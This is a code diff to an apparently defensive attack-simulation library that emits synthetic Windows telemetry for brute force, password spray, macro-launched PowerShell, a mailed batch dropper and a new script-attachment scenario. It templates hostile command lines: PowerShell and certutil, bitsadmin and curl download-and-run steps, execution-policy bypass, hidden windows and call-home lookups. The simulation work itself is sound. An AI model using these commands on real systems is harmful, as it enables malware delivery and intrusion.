@@ -4,13 +4,12 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from tocsin.simulate.actions import LogonType
-from tocsin.simulate.scenarios.cast import Act, Cast, Scenario, encoded
-from tocsin.simulate.software import CMD, OFFICE, POWERSHELL
+from tocsin.simulate.actions import LogonType, NameLookup, ScriptBlock
+from tocsin.simulate.scenarios.cast import Act, Cast, Scenario
+from tocsin.simulate.software import OFFICE, POWERSHELL
 
 
 def _brute_force(cast: Cast) -> Iterator[Act]:
-    """Try passwords of one account from outside until one fits, then look around."""
     attempts = int(min(600, 20 * cast.rng.paretovariate(1.3)))
     type_ = cast.rng.choice((LogonType.REMOTE, LogonType.NETWORK))
     account = cast.admin if cast.rng.random() < 0.3 else cast.victim
@@ -19,12 +18,11 @@ def _brute_force(cast: Cast) -> Iterator[Act]:
         yield Act("guess-passwords", "T1110.001", attempt)
     entry = cast.log_on(account, cast.server, cast.intruder, type_)
     yield Act("log-on-with-guessed-password", "T1078", entry)
-    whoami = cast.run("whoami.exe /all", _tool("whoami.exe"), account=account, machine=cast.server)
-    yield Act("look-around", "T1033", whoami)
+    look = cast.one_of("whoami.exe /all", "whoami.exe /priv", "whoami /groups")
+    yield Act("look-around", "T1033", cast.run(look, image=WHOAMI, account=account, machine=cast.server))
 
 
 def _spray(cast: Cast) -> Iterator[Act]:
-    """Try one password on every account from outside."""
     accounts = list(cast.organisation.accounts)
     cast.rng.shuffle(accounts)
     for account in accounts:
@@ -35,49 +33,62 @@ def _spray(cast: Cast) -> Iterator[Act]:
 
 
 def _encoded_powershell(cast: Cast) -> Iterator[Act]:
-    """Open a document whose macro starts an encoded script, which fetches and runs another."""
     office = f"{OFFICE}\\{cast.one_of('WINWORD.EXE', 'EXCEL.EXE')}"
+    script = cast.download()
+    yield Act("run-encoded-script", "T1059.001", cast.powershell(script, parent=office))
+    yield Act("run-encoded-script", "T1059.001", ScriptBlock(cast.victim, cast.desk, script))
+    yield Act("call-home", "T1071.001", cast.call_home(POWERSHELL))
+    tool = cast.dropped("ps1")
     fetch = cast.one_of(
-        f"IEX (New-Object Net.WebClient).DownloadString('{cast.url('ps1')}')",
-        f"$c=New-Object System.Net.WebClient;$c.DownloadFile('{cast.url('exe')}','{cast.dropped('exe')}')",
-        f"iwr -UseBasicParsing {cast.url('txt')} | iex",
+        f"(New-Object Net.WebClient).DownloadFile('{cast.url('ps1')}','{tool}')",
+        f"Invoke-WebRequest {cast.url('ps1')} -OutFile {tool}",
+        f"Start-BitsTransfer -Source {cast.url('ps1')} -Destination {tool}",
     )
-    flags = cast.one_of(
-        "-nop -w hidden", "-NoP -sta -NonI -W Hidden", "-NoProfile -WindowStyle Hidden", "-ep bypass"
-    )
-    line = f"powershell.exe {flags} {cast.cased('-EncodedCommand')} {encoded(fetch)}"
-    yield Act("run-encoded-script", "T1059.001", cast.run(line, POWERSHELL, office))
-    payload = cast.dropped("ps1")
-    script = f"(New-Object Net.WebClient).DownloadFile('{cast.url('ps1')}','{payload}')"
-    fetched = f'powershell.exe -ep bypass -c "{script}"'
-    yield Act("fetch-tool", "T1105", cast.run(fetched, POWERSHELL, POWERSHELL))
-    hidden = f"powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File {payload}"
-    yield Act("run-tool", "T1059.001", cast.run(hidden, POWERSHELL, POWERSHELL))
+    line = f'powershell.exe {cast.one_of("-ep bypass", "-ExecutionPolicy Bypass", "-nop")} -c "{fetch}"'
+    yield Act("fetch-tool", "T1105", cast.run(line, parent=POWERSHELL))
+    yield Act("fetch-tool", "T1105", cast.file(tool, POWERSHELL))
+    hidden = cast.one_of("-WindowStyle Hidden", "-w hidden", "-W 1")
+    run = f"powershell.exe {hidden} -ExecutionPolicy Bypass -File {tool}"
+    yield Act("run-tool", "T1059.001", cast.run(run, parent=POWERSHELL))
 
 
 def _shell_dropper(cast: Cast) -> Iterator[Act]:
-    """Fetch a program with a tool of the system itself, from a batch file out of a mail."""
-    target = cast.dropped("exe")
-    batch = cast.dropped("cmd")
-    yield Act(
-        "run-batch-file",
-        "T1059.003",
-        cast.run(f"cmd.exe /c {batch}", CMD, f"{OFFICE}\\OUTLOOK.EXE"),
-    )
+    batch = cast.dropped(cast.one_of("cmd", "bat"))
+    line = f"cmd.exe {cast.one_of('/c', '/C', '/d /c')} {batch}"
+    yield Act("run-batch-file", "T1059.003", cast.run(line, parent=f"{OFFICE}\\OUTLOOK.EXE"))
     fetch = cast.one_of(
-        f"certutil.exe -urlcache -split -f {cast.url('exe')} {target}",
-        f"bitsadmin.exe /transfer {cast.word()} /priority foreground {cast.url('exe')} {target}",
-        f"curl.exe -s -o {target} {cast.url('bin')}",
+        f"certutil.exe -urlcache -split -f {cast.url('exe')} {cast.implant}",
+        f"certutil.exe /verifyctl /f /split {cast.url('exe')} {cast.implant}",
+        f"bitsadmin.exe /transfer {cast.word()} /priority foreground {cast.url('exe')} {cast.implant}",
+        f"curl.exe -s -o {cast.implant} {cast.url('bin')}",
     )
-    yield Act("fetch-tool", "T1105", cast.run(fetch, _tool(fetch.split()[0])))
-    decode = f"certutil.exe {cast.cased('-decode')} {cast.dropped('txt')} {target}"
-    yield Act("decode-tool", "T1140", cast.run(decode, _tool("certutil.exe")))
-    yield Act("run-tool", "T1204.002", cast.run(target, target))
+    yield Act("fetch-tool", "T1105", cast.run(fetch))
+    yield Act("fetch-tool", "T1105", cast.file(cast.implant, f"C:\\Windows\\System32\\{fetch.split()[0]}"))
+    decode = f"certutil.exe {cast.cased('-decode')} {cast.dropped('txt')} {cast.implant}"
+    yield Act("decode-tool", "T1140", cast.run(decode))
+    yield Act("run-tool", "T1204.002", cast.run(cast.implant, image=cast.implant))
+    yield Act("call-home", "T1071.001", cast.call_home(cast.implant))
 
 
-def _tool(name: str) -> str:
-    return f"C:\\Windows\\System32\\{name}"
+def _script_attachment(cast: Cast) -> Iterator[Act]:
+    script = (
+        f"C:\\Users\\{cast.victim.name}\\Downloads\\{cast.word().title()}_{cast.one_of('invoice', 'scan')}"
+    )
+    extension = cast.one_of("js", "vbs", "hta")
+    path = f"{script}.{extension}"
+    host = {"js": "wscript.exe", "vbs": "wscript.exe", "hta": "mshta.exe"}[extension]
+    technique = {"js": "T1059.007", "vbs": "T1059.005", "hta": "T1218.005"}[extension]
+    image = f"C:\\Windows\\System32\\{host}"
+    explorer = "C:\\Windows\\explorer.exe"
+    yield Act(f"open-{extension}", technique, cast.run(f'"{image}" "{path}"', image=image, parent=explorer))
+    shell = f"cmd.exe /c powershell -w hidden -c {cast.download()}"
+    yield Act("run-download-script", "T1059.001", cast.run(shell, parent=image))
+    name = f"{cast.word()}{cast.word()}.top"
+    yield Act("look-up-server", "T1071.001", NameLookup(cast.victim, cast.desk, image, name, cast.intruder))
+    yield Act("look-up-server", "T1071.001", cast.call_home(image))
 
+
+WHOAMI = "C:\\Windows\\System32\\whoami.exe"
 
 SCENARIOS = (
     Scenario("brute-force", "Guess an account's password from outside, then log on", _brute_force, haste=5),
@@ -86,4 +97,5 @@ SCENARIOS = (
     Scenario(
         "shell-dropper", "A mailed batch file fetches a program with the system's own tools", _shell_dropper
     ),
+    Scenario("script-attachment", "A script sent by mail starts a hidden download", _script_attachment),
 )
